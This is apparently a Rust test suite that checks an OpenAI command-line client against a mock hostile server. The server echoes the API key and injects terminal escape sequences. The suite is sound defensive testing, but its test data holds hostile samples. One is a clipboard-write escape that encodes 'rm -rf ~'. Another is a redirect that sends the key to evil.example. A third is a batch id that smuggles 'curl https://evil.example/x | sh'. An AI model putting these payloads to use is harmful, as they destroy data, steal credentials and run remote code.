//! The `oai` binary against a hostile server: one that echoes the key it was
//! sent through every channel it has (error bodies, errors inside streams, the
//! `x-request-id` header, a redirect's `Location`, a body that does not
//! decode, model text, ids and file names) and writes terminal escape
//! sequences into all of them. In terminal mode (`--terminal`), neither the
//! key nor any 8-byte piece of it nor an escape character may reach stdout or
//! stderr; piped, stdout is the exact text.
//!
//! Also: a streamed answer is never kept past the CLI's cap.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod support;

use std::process::{Command, Output};
use std::sync::Arc;

use oai_mock::MockServer;
use serde_json::{Value, json};
use support::{RawServer as Hostile, response, sse};

/// Text that would steer a terminal: a clipboard write (OSC 52), a spoofed
/// link (OSC 8), a screen clear (CSI), the one-byte C1 CSI, a bidi override,
/// a carriage return and a bell.
const STEER: &str = "\x1b]52;c;cm0gLXJmIH4=\x07 \x1b]8;;https://evil.example/\x1b\\click here\x1b]8;;\x1b\\ \x1b[2J\u{9b}31m red \u{202e}desrever\u{202c}\r over\x07";

/// A key of 40 letters and digits that differs from run to run.
fn fresh_key() -> String {
    let mut seed = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_nanos() as u64
        ^ (u64::from(std::process::id()) << 32);
    let alphabet = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
    let mut key = String::from("sk-proj-");
    for _ in 0..40 {
        seed = seed
            .wrapping_mul(6364136223846793005)
            .wrapping_add(1442695040888963407);
        key.push(char::from(alphabet[(seed >> 33) as usize % alphabet.len()]));
    }
    key
}

fn chunk(delta: Value, finish: Option<&str>) -> String {
    json!({"id": "chatcmpl-1", "object": "chat.completion.chunk", "created": 1, "model": "m",
        "choices": [{"index": 0, "delta": delta, "finish_reason": finish}]})
    .to_string()
}

/// Runs the binary against `base_url` with `key`, nothing else from the
/// environment that could point it elsewhere.
fn oai(base_url: &str, key: &str, args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_oai"))
        .args(args)
        .env_remove("OPENAI_ORG_ID")
        .env_remove("OPENAI_PROJECT_ID")
        .env_remove("HTTP_PROXY")
        .env_remove("HTTPS_PROXY")
        .env_remove("ALL_PROXY")
        .env_remove("http_proxy")
        .env_remove("https_proxy")
        .env_remove("all_proxy")
        .env("OPENAI_API_KEY", key)
        .env("OPENAI_BASE_URL", base_url)
        .output()
        .unwrap()
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

/// The assertions of terminal mode, on both streams of one run.
#[track_caller]
fn assert_safe(out: &Output, key: &str, what: &str) {
    for (name, bytes) in [("stdout", &out.stdout), ("stderr", &out.stderr)] {
        let shown = text(bytes);
        assert!(!bytes.contains(&0x1b), "{what}: ESC on {name}: {shown:?}");
        let unsafe_char = |c: char| {
            (c.is_control() && c != '\n' && c != '\t')
                || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
        };
        if let Some(c) = shown.chars().find(|&c| unsafe_char(c)) {
            panic!("{what}: {c:?} on {name}: {shown:?}");
        }
        // A key shorter than a piece must not appear whole.
        let pieces = key.as_bytes().windows(8.min(key.len()));
        for piece in pieces {
            assert!(
                !bytes.windows(piece.len()).any(|w| w == piece),
                "{what}: a piece of the key ({}) on {name}: {shown:?}",
                text(piece)
            );
        }
    }
}

fn code(out: &Output) -> i32 {
    out.status.code().unwrap_or(-1)
}

/// The key, cut into pieces of three bytes: no piece is long enough to be
/// recognised alone.
fn split_key(key: &str) -> Vec<String> {
    key.as_bytes()
        .chunks(3)
        .map(|c| String::from_utf8(c.to_vec()).unwrap())
        .collect()
}

/// Chat deltas: text, the escape sequences, the key split over many deltas,
/// more text.
fn hostile_chat_stream(key: &str) -> Vec<String> {
    let mut events = vec![
        chunk(json!({"role": "assistant", "content": "Hello "}), None),
        chunk(json!({"content": STEER}), None),
        chunk(json!({"content": " the key is "}), None),
    ];
    for piece in split_key(key) {
        events.push(chunk(json!({"content": piece}), None));
    }
    events.push(chunk(json!({"content": format!(" or {key}.\nbye")}), None));
    events.push(chunk(json!({}), Some("stop")));
    events.push("[DONE]".to_owned());
    events
}

fn hostile_chat_text(key: &str) -> String {
    format!("Hello {STEER} the key is {key} or {key}.\nbye")
}

#[test]
fn streamed_chat_text_is_safe_on_a_terminal_and_exact_in_a_pipe() {
    let key = fresh_key();
    let server = Hostile::start(|seen| {
        // The request id header holds the key the server was sent.
        sse(
            &[("x-request-id", &seen.key)],
            &hostile_chat_stream(&seen.key),
        )
    });
    let out = oai(&server.base_url, &key, &["--terminal", "chat", "hi"]);
    assert_eq!(code(&out), 0, "{}", text(&out.stderr));
    assert_eq!(server.seen()[0].key, key, "the server saw the key");
    assert_safe(&out, &key, "chat stream");
    let shown = text(&out.stdout);
    assert!(shown.starts_with("Hello "), "{shown:?}");
    assert!(
        shown.contains("click here") && shown.contains("desrever"),
        "{shown:?}"
    );
    assert!(shown.contains("[REDACTED]"), "{shown:?}");
    assert!(shown.ends_with(".\nbye\n"), "newlines are kept: {shown:?}");

    // Piped: the exact text, escape sequences and all.
    let out = oai(&server.base_url, &key, &["chat", "hi"]);
    assert_eq!(code(&out), 0, "{}", text(&out.stderr));
    assert_eq!(text(&out.stdout), format!("{}\n", hostile_chat_text(&key)));

    // --json on a terminal: the server's events, one a line, each the same
    // JSON value with its unsafe characters as `\u` escapes.
    let out = oai(
        &server.base_url,
        &key,
        &["--terminal", "--json", "chat", "hi"],
    );
    assert_eq!(code(&out), 0, "{}", text(&out.stderr));
    assert!(!out.stdout.contains(&0x1b));
    let shown = text(&out.stdout);
    assert!(
        !shown.contains('\u{9b}') && !shown.contains('\u{202e}'),
        "{shown}"
    );
    let sent = hostile_chat_stream(&key);
    let lines: Vec<&str> = shown.lines().collect();
    assert_eq!(
        lines.len(),
        sent.len() - 1,
        "every event but [DONE]: {shown}"
    );
    let mut streamed = String::new();
    for (line, sent) in lines.iter().zip(&sent) {
        let value: Value = serde_json::from_str(line).unwrap();
        assert_eq!(value, serde_json::from_str::<Value>(sent).unwrap());
        streamed.push_str(
            value["choices"][0]["delta"]["content"]
                .as_str()
                .unwrap_or(""),
        );
    }
    assert_eq!(streamed, hostile_chat_text(&key));
}

#[test]
fn errors_echoing_the_key_never_show_it() {
    let key = fresh_key();
    let server = Hostile::start(|seen| {
        let key = &seen.key;
        let echo = format!("Incorrect API key provided: {key}. {STEER}\noai: error: forged line");
        match (seen.method.as_str(), seen.path.as_str()) {
            // An error body, with the key in every field and in the request id.
            ("POST", "/v1/chat/completions") => response(
                "401 Unauthorized",
                &[("x-request-id", key)],
                json!({"error": {"message": echo, "type": key, "code": key, "param": key}})
                    .to_string()
                    .as_bytes(),
            ),
            // A redirect to a place that names the key.
            ("GET", "/v1/models") => response(
                "302 Found",
                &[
                    ("location", &format!("https://evil.example/steal?key={key}")),
                    ("x-request-id", key),
                ],
                b"",
            ),
            // A 2xx body that does not decode, holding the key.
            ("GET", "/v1/files") => response(
                "200 OK",
                &[("x-request-id", key), ("content-type", "text/html")],
                format!("<html>{key} {STEER}</html>").as_bytes(),
            ),
            _ => response("404 Not Found", &[], b"{}"),
        }
    });
    let run = |args: &[&str]| {
        let mut all = vec!["--terminal"];
        all.extend_from_slice(args);
        oai(&server.base_url, &key, &all)
    };

    let out = run(&["chat", "--no-stream", "hi"]);
    assert_eq!(code(&out), 1, "{}", text(&out.stderr));
    assert_safe(&out, &key, "error body");
    let err = text(&out.stderr);
    assert_eq!(
        err.lines().count(),
        1,
        "one line, never a forged one: {err}"
    );
    assert!(err.starts_with("oai: error: "), "{err}");
    assert!(err.contains("Incorrect API key provided"), "{err}");

    let out = run(&["models"]);
    assert_eq!(code(&out), 4, "{}", text(&out.stderr));
    assert_safe(&out, &key, "redirect");

    let out = run(&["files", "list"]);
    assert_eq!(code(&out), 5, "{}", text(&out.stderr));
    assert_safe(&out, &key, "undecodable body");
    assert_eq!(server.seen().len(), 3, "one request each");
}

#[test]
fn errors_inside_streams_echoing_the_key_never_show_it() {
    let key = fresh_key();
    let server = Hostile::start(|seen| {
        let key = &seen.key;
        let error = json!({"message": format!("bad key {key} {STEER}"), "type": key,
            "code": key, "param": key});
        match seen.path.as_str() {
            // Some text, then an `{"error": ..}` object in the stream.
            "/v1/chat/completions" => sse(
                &[("x-request-id", key)],
                &[
                    chunk(json!({"role": "assistant", "content": "partial "}), None),
                    chunk(json!({"content": key}), None),
                    json!({ "error": error }).to_string(),
                ],
            ),
            // An `event: error` block in a Responses stream.
            _ => sse(
                &[("x-request-id", key)],
                &[format!(
                    "event: error\ndata: {}\n\n",
                    json!({ "error": error })
                )],
            ),
        }
    });
    let out = oai(&server.base_url, &key, &["--terminal", "chat", "hi"]);
    assert_eq!(code(&out), 1, "{}", text(&out.stderr));
    assert_safe(&out, &key, "chat stream error");
    assert!(
        text(&out.stdout).starts_with("partial "),
        "{}",
        text(&out.stdout)
    );
    assert_eq!(
        text(&out.stderr).lines().count(),
        1,
        "{}",
        text(&out.stderr)
    );

    let out = oai(
        &server.base_url,
        &key,
        &["--terminal", "responses", "create", "hi"],
    );
    assert_eq!(code(&out), 1, "{}", text(&out.stderr));
    assert_safe(&out, &key, "responses stream error");
}

#[test]
fn ids_and_file_names_a_server_chose_are_safe_on_a_terminal() {
    let key = fresh_key();
    let server = Hostile::start(|seen| {
        let key = &seen.key;
        let name = format!("model-{STEER}-{key}");
        let body = match seen.path.as_str() {
            "/v1/models" => json!({"object": "list", "data": [
                {"id": name, "object": "model", "created": 1, "owned_by": key}]}),
            _ => json!({"object": "list", "has_more": false, "first_id": key, "last_id": key,
                "data": [{"id": format!("file-{key}"), "object": "file", "bytes": 3,
                "created_at": 1, "filename": format!("{STEER}\n{key}.txt"),
                "purpose": format!("{STEER}{key}"), "status": "processed"}]}),
        };
        response("200 OK", &[], body.to_string().as_bytes())
    });
    let out = oai(&server.base_url, &key, &["--terminal", "models"]);
    assert_eq!(code(&out), 0, "{}", text(&out.stderr));
    assert_safe(&out, &key, "model ids");
    assert_eq!(text(&out.stdout).lines().count(), 1);
    assert!(text(&out.stdout).starts_with("model-"));

    let out = oai(&server.base_url, &key, &["--terminal", "files", "list"]);
    assert_eq!(code(&out), 0, "{}", text(&out.stderr));
    assert_safe(&out, &key, "file names");
    let line = text(&out.stdout);
    assert_eq!(line.lines().count(), 1, "{line:?}");
    assert_eq!(line.trim_end().split('\t').count(), 4, "{line:?}");

    // Piped, the exact names.
    let out = oai(&server.base_url, &key, &["models"]);
    assert_eq!(text(&out.stdout), format!("model-{STEER}-{key}\n"));
}

#[tokio::test(flavor = "multi_thread")]
async fn responses_text_is_safe_on_a_terminal() {
    let mock = MockServer::start().await;
    let key = mock.api_key();
    let answer = format!("Sure. {STEER} {key} done");
    mock.responses().text(answer.clone());
    mock.responses().text(answer.clone());
    let base = mock.base_url();
    let run = move |args: Vec<&'static str>| {
        let base = base.clone();
        tokio::task::spawn_blocking(move || oai(&base, key, &args))
    };
    let out = run(vec!["--terminal", "responses", "create", "hi"])
        .await
        .unwrap();
    assert_eq!(code(&out), 0, "{}", text(&out.stderr));
    assert_safe(&out, key, "responses text");
    let shown = text(&out.stdout);
    assert!(
        shown.starts_with("Sure. ") && shown.ends_with(" done\n"),
        "{shown:?}"
    );
    let out = run(vec!["responses", "create", "hi"]).await.unwrap();
    assert_eq!(text(&out.stdout), format!("{answer}\n"));
}

/// Chat deltas of `size` bytes each, `total` bytes in all; `arguments` puts
/// them in a tool call's arguments instead of the text.
fn big_chat_stream(total: usize, size: usize, arguments: bool) -> Vec<u8> {
    let piece = "x".repeat(size);
    let mut events = Vec::with_capacity(total / size + 4);
    events.push(if arguments {
        chunk(
            json!({"role": "assistant", "tool_calls": [{"index": 0, "id": "call_1",
                "type": "function", "function": {"name": "f", "arguments": ""}}]}),
            None,
        )
    } else {
        chunk(json!({"role": "assistant", "content": ""}), None)
    });
    for _ in 0..total / size {
        events.push(if arguments {
            chunk(
                json!({"tool_calls": [{"index": 0, "function": {"arguments": piece}}]}),
                None,
            )
        } else {
            chunk(json!({ "content": piece }), None)
        });
    }
    events.push(chunk(json!({}), Some("stop")));
    events.push("[DONE]".to_owned());
    sse(&[], &events)
}

#[test]
fn a_streamed_answer_is_kept_only_up_to_the_cap() {
    const TOTAL: usize = 17 << 20;
    let key = fresh_key();
    let text_stream = Arc::new(big_chat_stream(TOTAL, 16 << 10, false));
    let tool_stream = Arc::new(big_chat_stream(TOTAL, 16 << 10, true));
    let server = Hostile::start(move |seen| {
        if seen.path.ends_with("/chat/completions") && seen.key.ends_with('A') {
            tool_stream.to_vec()
        } else {
            text_stream.to_vec()
        }
    });
    let key = format!("{}B", &key[..key.len() - 1]);
    // Shown as text, 17 MiB pass: the text is written, not kept.
    let out = oai(&server.base_url, &key, &["chat", "hi"]);
    assert_eq!(code(&out), 0, "{}", text(&out.stderr));
    assert_eq!(out.stdout.len(), TOTAL + 1);
    // With --json each event is printed as it comes, none kept: all of them
    // pass too.
    let out = oai(&server.base_url, &key, &["--json", "chat", "hi"]);
    assert_eq!(code(&out), 0, "{}", text(&out.stderr));
    let events = TOTAL / (16 << 10) + 2;
    assert_eq!(out.stdout.iter().filter(|&&b| b == b'\n').count(), events);
    // Tool-call arguments are kept even without --json: the same cap.
    let key = format!("{}A", &key[..key.len() - 1]);
    let out = oai(&server.base_url, &key, &["chat", "hi"]);
    assert_eq!(code(&out), 5, "{}", text(&out.stderr));
    assert!(
        text(&out.stderr).contains("16 MiB"),
        "{}",
        text(&out.stderr)
    );
}

#[test]
fn a_batch_id_that_is_not_plain_is_never_offered_as_a_command() {
    let id = "batch_1; curl https://evil.example/x | sh";
    let server = Hostile::start(move |seen| {
        match (seen.method.as_str(), seen.path.as_str()) {
            ("POST", "/v1/files") => response(
                "200 OK",
                &[],
                json!({"id": "file-1", "object": "file", "bytes": 10, "created_at": 1,
                    "filename": "batch.jsonl", "purpose": "batch", "status": "processed"})
                .to_string()
                .as_bytes(),
            ),
            ("POST", "/v1/batches") => response(
                "200 OK",
                &[],
                json!({"id": id, "object": "batch", "endpoint": "/v1/chat/completions",
                    "input_file_id": "file-1", "completion_window": "24h",
                    "status": "validating", "created_at": 1})
                .to_string()
                .as_bytes(),
            ),
            // Every poll fails.
            _ => response("500 Internal Server Error", &[], b"{}"),
        }
    });
    let dir = std::env::temp_dir().join(format!("oai-cli-hostile-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let path = dir.join("requests.jsonl");
    let line = json!({"custom_id": "a", "method": "POST", "url": "/v1/chat/completions",
        "body": {"model": "m", "messages": [{"role": "user", "content": "x"}]}});
    std::fs::write(&path, format!("{line}\n")).unwrap();
    let key = fresh_key();
    let out = oai(
        &server.base_url,
        &key,
        &[
            "batch",
            "run",
            path.to_str().unwrap(),
            "--poll-seconds",
            "0.05",
        ],
    );
    let _ = std::fs::remove_dir_all(&dir);
    assert_eq!(code(&out), 6, "{}", text(&out.stderr));
    let err = text(&out.stderr);
    assert!(!err.contains("--resume batch_1"), "{err}");
    assert_eq!(err.matches("not a plain id").count(), 2, "{err}");
}
